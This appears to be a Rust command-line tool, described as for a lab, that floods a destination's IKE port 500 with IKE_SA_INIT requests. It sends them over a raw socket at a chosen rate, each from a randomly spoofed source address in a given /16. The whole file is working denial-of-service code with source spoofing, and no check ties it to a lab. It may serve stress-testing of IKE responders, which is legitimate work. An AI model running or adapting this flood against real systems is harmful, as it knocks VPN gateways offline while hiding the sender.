//! A spoofed IKE_SA_INIT flood, for the lab (run with `ip netns exec HOST`, as root):
//!
//!   lab-ike-flood DST COUNT RATE PREFIX
//!
//! sends COUNT IKE_SA_INIT requests (AES-GCM-16-128, HMAC-SHA2-256, Curve25519, made with
//! the ike crate's codec) to DST:500 at RATE packets/s, each from a random address of the
//! IPv4 /16 PREFIX (e.g. 10.99.0.0) with a fresh initiator SPI and nonce, over a raw socket
//! (the kernel fills in the IP checksum, ID and length; the UDP checksum is left 0, which
//! IPv4 allows). Prints "sent N in S s".

use std::net::Ipv4Addr;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use ike::codec::{exchange, flags, Header, Ke, Message, Payload, Proposal, Transform};
use ike::crypto::{DhGroup, KeyShare};
use ike::{Rng, SeededRng};

/// The one IKE_SA_INIT every packet is a copy of (initiator SPI and nonce patched).
fn template(rng: &mut SeededRng) -> (Vec<u8>, usize) {
    let share = KeyShare::generate(DhGroup::Curve25519, rng);
    let proposal = Proposal {
        number: 1,
        protocol: 1,
        spi: Vec::new(),
        transforms: vec![
            Transform::with_key_length(1, 20, 128), // ENCR_AES_GCM_16, 128 bits
            Transform::new(2, 5),                   // PRF_HMAC_SHA2_256
            Transform::new(4, 31),                  // Curve25519
        ],
    };
    let nonce = vec![0u8; 32];
    let msg = Message {
        header: Header {
            spi_i: 1,
            spi_r: 0,
            exchange: exchange::IKE_SA_INIT,
            flags: flags::INITIATOR,
            message_id: 0,
        },
        payloads: vec![
            Payload::Sa(vec![proposal]),
            Payload::Ke(Ke {
                group: DhGroup::Curve25519.number(),
                data: share.public().to_vec(),
            }),
            Payload::Nonce(nonce),
        ],
    };
    let bytes = msg.encode();
    // The nonce is the last payload: its data ends the message.
    let at = bytes.len() - 32;
    (bytes, at)
}

/// An IPv4 + UDP datagram from `src`:500 to `dst`:500 around `ike`.
fn datagram(src: Ipv4Addr, dst: Ipv4Addr, ike: &[u8]) -> Vec<u8> {
    let udp_len = u16::try_from(8 + ike.len()).unwrap_or(u16::MAX);
    let mut d = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0];
    d.extend_from_slice(&src.octets());
    d.extend_from_slice(&dst.octets());
    d.extend_from_slice(&500u16.to_be_bytes());
    d.extend_from_slice(&500u16.to_be_bytes());
    d.extend_from_slice(&udp_len.to_be_bytes());
    d.extend_from_slice(&[0, 0]);
    d.extend_from_slice(ike);
    d
}

fn run(dst: Ipv4Addr, count: u64, rate: u64, prefix: Ipv4Addr) -> Result<(u64, Duration), String> {
    // SAFETY: plain socket(2); the descriptor is closed below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(format!("raw socket: {}", std::io::Error::last_os_error()));
    }
    let to = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(dst).to_be(),
        },
        sin_zero: [0; 8],
    };
    let mut rng = SeededRng::new(u64::from(std::process::id()));
    let (mut ike, nonce_at) = template(&mut rng);
    let [a, b, ..] = prefix.octets();
    let start = Instant::now();
    let mut sent = 0;
    for n in 0..count {
        let mut r = [0u8; 10];
        rng.fill(&mut r);
        ike[..8].copy_from_slice(&r[..8]);
        rng.fill(&mut ike[nonce_at..]);
        let src = Ipv4Addr::new(a, b, r[8], r[9].max(1));
        let d = datagram(src, dst, &ike);
        // SAFETY: `d` and `to` outlive the call; lengths are theirs.
        let ok = unsafe {
            libc::sendto(
                fd,
                d.as_ptr().cast(),
                d.len(),
                0,
                std::ptr::addr_of!(to).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        sent += u64::from(ok >= 0);
        // Pace: packet n leaves no earlier than n / rate seconds after the start.
        let due = Duration::from_secs_f64((n + 1) as f64 / rate as f64);
        if let Some(wait) = due.checked_sub(start.elapsed()) {
            std::thread::sleep(wait);
        }
    }
    // SAFETY: our descriptor, closed once.
    unsafe { libc::close(fd) };
    Ok((sent, start.elapsed()))
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let parsed = match args.as_slice() {
        [dst, count, rate, prefix] => (|| {
            Some((
                dst.parse().ok()?,
                count.parse().ok()?,
                rate.parse().ok().filter(|r| *r > 0)?,
                prefix.parse().ok()?,
            ))
        })(),
        _ => None,
    };
    let Some((dst, count, rate, prefix)) = parsed else {
        eprintln!("usage: lab-ike-flood DST COUNT RATE PREFIX (IPv4 /16, e.g. 10.99.0.0)");
        return ExitCode::from(2);
    };
    match run(dst, count, rate, prefix) {
        Ok((sent, took)) => {
            println!("sent {sent} in {:.2} s", took.as_secs_f64());
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("lab-ike-flood: {e}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_template_is_an_ike_sa_init_whose_nonce_ends_it() {
        let (mut ike, at) = template(&mut SeededRng::new(1));
        ike[at..].fill(7);
        let msg = ike::decode_message(&ike).expect("decodes");
        assert_eq!(msg.header.exchange, exchange::IKE_SA_INIT);
        assert!(msg.payloads.contains(&Payload::Nonce(vec![7; 32])));
        let d = datagram(
            Ipv4Addr::new(10, 99, 1, 2),
            Ipv4Addr::new(10, 10, 0, 10),
            &ike,
        );
        assert_eq!((d.len(), &d[12..16]), (28 + ike.len(), &[10, 99, 1, 2][..]));
    }
}
